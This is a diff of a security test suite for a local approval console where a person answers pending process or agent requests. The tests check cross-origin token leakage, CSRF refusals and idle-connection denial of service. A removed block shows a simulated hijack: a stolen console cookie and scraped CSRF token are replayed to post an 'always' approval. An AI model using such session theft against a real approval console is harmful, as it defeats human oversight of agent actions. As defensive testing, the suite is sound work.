+        deadline = time.monotonic() + WAIT_SECONDS
+        while not holds():
+            assert time.monotonic() < deadline, f"timed out waiting for {what}: {heard.paths()}"
+            page.wait_for_timeout(50)
+
+    refusals: list[tuple[str, int]] = []
     try:
         with sync_api.sync_playwright() as p:
             browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox", "--disable-gpu"])
             try:
-                page = browser.new_context().new_page()
-                page.goto(host.url)  # the person opens the console
-                assert page.url == f"{host.base}/processes"
-                page.goto(f"http://127.0.0.1:{server.server_address[1]}/")  # ... and later a local dev server
+                ctx = browser.new_context()
+                page = ctx.new_page()
+                page.goto(host.url)  # the person opens the console ...
+                assert page.url == f"{host.home}/processes" and ctx.cookies() == []
+                # ... follows a link on a console page to the dev server (as if one were shown there)
+                with page.expect_navigation():
+                    page.evaluate(
+                        "url => { const a = document.createElement('a'); a.href = url; document.body.append(a);"
+                        " a.click(); }",
+                        f"{dev}/?from=console",
+                    )
+                until(page, lambda: "/report" in heard.paths(), "the dev server's page to report")
+                until(page, lambda: heard.paths().count("/report") >= 2, "the dev server's calls to the console")
+                page.goto(f"{host.home}/processes")  # back to the console (typed), then the dev server again
+                page.goto(f"{dev}/")
+                until(page, lambda: heard.paths().count("/report") >= 4, "the second visit's calls")
+                with page.expect_navigation() as went:  # its link back into the console
+                    page.click("#back")
+                answered = went.value
+                refusals.append((page.url, answered.status if answered is not None else 0))
+                assert page.locator("section.request").count() == 0
+                with page.expect_navigation(url=re.compile(rf"^{re.escape(host.base)}/")) as went:
+                    page.goto(f"{dev}/form")  # a form that posts an answer to the console at once
+                answered = went.value
+                refusals.append((page.url, answered.status if answered is not None else 0))
+                assert ctx.cookies() == []
             finally:
                 browser.close()
     finally:
         server.shutdown()
         server.server_close()
-    harvested = [c for c in seen if host.token in c]
-    if harvested:  # the hostile server now is the console's person
-        stolen = httpx.Client(base_url=host.base, headers={"Origin": host.base, "Cookie": harvested[0]}, timeout=10)
-        csrf = CSRF.search(stolen.get("/approvals").text)
-        assert csrf is not None
-        stolen.post(f"/requests/{req.id}/answer", data={"verdict": "always", "csrf": csrf.group(1)}, headers=HX)
-        stolen.close()
-    assert not harvested, f"a server on another port received the console's cookie: {harvested[0][:40]}..."
+    assert refusals == [(f"{host.base}/approvals", 403), (f"{host.base}/requests/{req.id}/answer", 403)], refusals
+    assert {"/", "/report", "/form"} <= set(heard.paths()), heard.paths()
+    leaked = [
+        (method, target, name)
+        for method, target, headers in heard.requests
+        for name, value in [("request target", target), *headers]
+        if host.token in value or host.token in urllib.parse.unquote(value)
+    ]
+    assert not leaked, f"a server on another port received the console's token: {leaked}"
+    sent = [h for _, _, headers in heard.requests for h in headers]
+    assert not [v for k, v in sent if k.lower() == "cookie"], "the dev server got a cookie"
+    referers = [v for k, v in sent if k.lower() == "referer"]
+    assert all(v.startswith(dev + "/") for v in referers), referers  # its own pages only: never the console
     assert host.request(req.id).state.value == "pending"
+    assert not [r for r in host.audit() if r.syscall == "human.answer" and r.detail.get("request") == req.id]
 
 
 # -- 5. denial of service through the console ---------------------------------------------------
@@ -993,10 +1162,7 @@ def test_live_pages_stay_bounded_while_a_process_is_busy(host: Host, root: Path,
     try:
         for _ in range(30):
             s = socket.create_connection(("127.0.0.1", host.port), timeout=5)
-            s.sendall(
-                f"GET /events HTTP/1.1\r\nHost: 127.0.0.1:{host.port}\r\n"
-                f"Cookie: {host.cookie}={host.token}\r\n\r\n".encode()
-            )
+            s.sendall(f"GET /{host.token}/events HTTP/1.1\r\nHost: 127.0.0.1:{host.port}\r\n\r\n".encode())
             idle.append(s)
         pushes = 0
         with client.stream("GET", "/events", timeout=httpx.Timeout(30)) as stream:
@@ -1059,19 +1225,19 @@ def test_idle_connections_without_a_token_cannot_starve_the_host(tmp_path: Path)
 def test_crafted_answers_and_ids_are_refused_cleanly(host: Host, agents: Agents, web: Any) -> None:
     _, csrf = web
     question = host.pending(agents.asker)[0].id
-    me = host.base
-    jar = {host.cookie: host.token}
-    form = {"headers": {**HX, "Origin": me}, "cookies": jar, "timeout": 10}
+    me, mine = host.base, host.home
+    form = {"headers": {**HX, "Origin": me}, "timeout": 10}
     statuses = {  # each on a connection of its own: the server drops one that got a 500
         "approve a question": httpx.post(
-            f"{me}/requests/{question}/answer", data={"verdict": "once", "csrf": csrf}, **form
+            f"{mine}/requests/{question}/answer", data={"verdict": "once", "csrf": csrf}, **form
         ).status_code,
         "a huge request id": httpx.post(
-            f"{me}/requests/{2**70}/answer", data={"verdict": "deny", "csrf": csrf}, **form
+            f"{mine}/requests/{2**70}/answer", data={"verdict": "deny", "csrf": csrf}, **form
         ).status_code,
-        "a huge pid": httpx.get(f"{me}/process/{2**70}", cookies=jar, timeout=10).status_code,
+        "a huge pid": httpx.get(f"{mine}/process/{2**70}", timeout=10).status_code,
     }
-    assert all(400 <= s < 500 for s in statuses.values()), statuses
+    # refused for what they ask (not for want of the token or the CSRF token: no 403)
+    assert all(400 <= s < 500 and s != 403 for s in statuses.values()), statuses
     assert host.request(question).state.value == "pending"
 
 
@@ -1084,4 +1250,4 @@ def test_the_token_redirect_stays_on_the_console(host: Host) -> None:
         head = s.recv(4096).decode("latin-1")
     location = re.search(r"(?im)^location: (.*)\r$", head)
     assert location is not None, head
-    assert location.group(1).startswith("/") and not location.group(1).startswith("//"), location.group(1)
+    assert location.group(1).startswith(f"/{host.token}/"), location.group(1)  # under the console's root
